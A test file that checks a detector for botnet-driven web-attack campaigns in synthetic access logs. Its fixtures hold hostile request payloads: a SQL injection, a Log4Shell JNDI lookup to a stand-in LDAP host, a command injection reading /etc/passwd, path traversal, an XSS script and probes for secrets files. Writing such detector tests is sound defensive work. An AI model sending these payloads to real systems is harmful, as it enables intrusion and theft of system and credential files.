/** Botnets that send a web site one attack each, among scanners and readers. */
import { describe, expect, it } from 'vitest'
import { ANALYZERS } from '../../src/campaigns/index.ts'
import { AddressTable } from '../../src/core/addresses.ts'
import { createRandom } from '../../src/core/random.ts'
import { DAY, HOUR } from '../../src/core/time.ts'
import type { FindingDraft } from '../../src/kit/define-rule.ts'
import { runLines } from '../support/analyze-lines.ts'

const [campaigns] = ANALYZERS
const START = Date.UTC(2026, 2, 1)
const DAYS = 16

type Line = readonly [time: number, text: string]

const stamp = (time: number): string => {
  const [, date, clock] = /^(.{10})T(.{8})/.exec(new Date(time).toISOString()) ?? []
  const [year, month, day] = date.split('-')
  return `${day}/${month === '03' ? 'Mar' : 'Apr'}/${year}:${clock} +0000`
}
const get = (time: number, source: string, target: string, status: number, agent = 'curl/8.0'): Line => [
  time,
  `${source} - - [${stamp(time)}] "GET ${target} HTTP/1.1" ${status} 812 "-" "${agent}"`,
]

const EXPLOITS = [
  '/.env',
  '/.git/config',
  '/boaform/admin/formLogin',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/index.php?page=../../../../etc/passwd',
  '/wp-login.php',
]

/** New scanners every day, each with some known paths, and readers with browsers. */
function usual(scanners: number): Line[] {
  const random = createRandom(4, 'usual')
  const lines: Line[] = []
  for (let n = 0; n < scanners * DAYS; n++) {
    const time = START + random.next() * DAYS * DAY
    for (let i = random.below(4); i >= 0; i--)
      lines.push(get(time + i * 1500, `45.${n >> 8}.${n & 255}.9`, EXPLOITS[random.below(EXPLOITS.length)], 404))
  }
  for (let n = 0; n < 60 * DAYS; n++)
    lines.push(...reading(START + random.next() * DAYS * DAY, `198.51.100.${n % 250}`, '/product?id=3'))
  return lines
}

function reading(time: number, source: string, page: string): Line[] {
  return [page, '/style.css', '/logo.png'].map((target, i) => get(time + i * 300, source, target, 200, 'Mozilla/5.0'))
}

const bots = (count: number, span: number, targetOf: (i: number) => string, status: number): Line[] =>
  Array.from({ length: count }, (_, i) =>
    get(START + 9 * DAY + (i * span) / count, `203.${i >> 4}.113.${10 + i}`, targetOf(i), status),
  )
const injection = (i: number): string => `/product?id=${i}%20UNION%20SELECT%20NULL,version()--`

function findings(...lists: Line[][]): FindingDraft[] {
  const addresses = new AddressTable()
  const analyzer = campaigns.open({}, { addresses, services: { host: {} }, budgetPerWeek: 1, seed: 1 })
  if (analyzer === undefined) expect.fail('the detector is on by default')
  const lines = lists
    .flat()
    .sort((a, b) => a[0] - b[0])
    .map(([, text]) => text)
  runLines([lines], {}, addresses, event => {
    if (campaigns.on.includes(event.kind)) analyzer.observe(event)
  })
  return analyzer.conclude({ flagged: new Map(), findings: [] })
}

const isBot = (source: string): boolean => source.startsWith('203.')

describe('one attack from each of many addresses', () => {
  it.each([5, 20])('is no campaign where it is %i scanners a day', scanners => {
    expect(findings(usual(scanners))).toEqual([])
  })

  it.each([
    ['within an hour', HOUR],
    ['within a day', DAY],
  ])('on a page that is there is one campaign that names them all, %s', (_, span) => {
    const [found, ...others] = findings(usual(10), bots(60, span, injection, 200))
    expect(others).toEqual([])
    expect(found.title).toMatch(
      /^Distributed attack on the web site \(SQL or NoSQL injection\) on `\/product`: \d+ addresses in /,
    )
    expect(found.sources.filter(isBot)).toHaveLength(60)
    expect(found.sources.length).toBeLessThanOrEqual(64)
    expect(found).toMatchObject({
      kind: 'campaign',
      techniques: ['T1190'],
      details: { campaign: { kind: 'web-attack' } },
    })
    expect(found.severity).toBe(span === HOUR ? 'high' : 'medium')
    expect(found.reasons.map(({ text }) => text)).toContainEqual(
      expect.stringMatching(/^60 addresses got an answer without an error; whether an attack took effect/),
    )
  })

  it('is one campaign where each sends another attack', () => {
    const mixed = [
      '/?x=$%7Bjndi:ldap://198.51.100.77:1389/a%7D',
      '/ping?host=127.0.0.1;cat%20/etc/passwd',
      '/?q=%3Cscript%3Ealert(1)%3C/script%3E',
    ]
    const [found, ...others] = findings(
      usual(10),
      bots(60, HOUR, i => (i % 4 === 3 ? injection(i) : mixed[i % 4]), 200),
    )
    expect(others).toEqual([])
    expect(found.sources.filter(isBot).length).toBeGreaterThanOrEqual(58)
    expect(found.title).toMatch(/^Distributed attack on the web site: \d+ addresses in /)
    expect(found.reasons.map(({ text }) => text)).toContainEqual(expect.stringMatching(/^4 attacks tried: /))
  })

  it('is low where nothing of it is there, and no scan besides', () => {
    const [found, ...others] = findings(
      usual(10),
      bots(60, HOUR, () => '/boaform/admin/formLogin', 404),
    )
    expect(others).toEqual([])
    expect(found).toMatchObject({ severity: 'low', details: { campaign: { surface: 'web-payload' } } })
    expect(found.sources.filter(isBot)).toHaveLength(60)
    expect(found.reasons.map(({ text }) => text)).toContain('what they asked for is not there, or was refused')
  })

  it('counts attempts once, whatever they are counted under', () => {
    const [found] = findings(
      bots(60, HOUR, injection, 200),
      bots(60, HOUR, injection, 200),
      reading(START, '198.51.100.1', '/'),
      reading(START + 15 * DAY, '198.51.100.2', '/'),
    )
    expect(found.sources).toHaveLength(60)
    expect(found.count).toBe(120)
  })

  it('is nobody who reads a page with a browser, whatever the link to it looks like', () => {
    const readers = Array.from({ length: 80 }, (_, i) =>
      reading(START + 9 * DAY + i * 40_000, `203.0.${i}.7`, injection(1)),
    )
    expect(findings(usual(10), readers.flat())).toEqual([])
  })

  it('leaves who else scans meanwhile to the scan', () => {
    const scan = Array.from({ length: 60 }, (_, i) =>
      get(START + 9 * DAY + i * 60_000, `192.0.${i}.44`, '/old/shop/backup.aspx', 404),
    )
    const found = findings(usual(10), bots(60, HOUR, injection, 200), scan)
    const kinds = found.map(({ details, sources }) => [details?.campaign, sources.filter(isBot).length])
    expect(kinds).toEqual([
      [expect.objectContaining({ kind: 'web-attack' }), 60],
      [expect.objectContaining({ kind: 'web-scan' }), 0],
    ])
  })
})
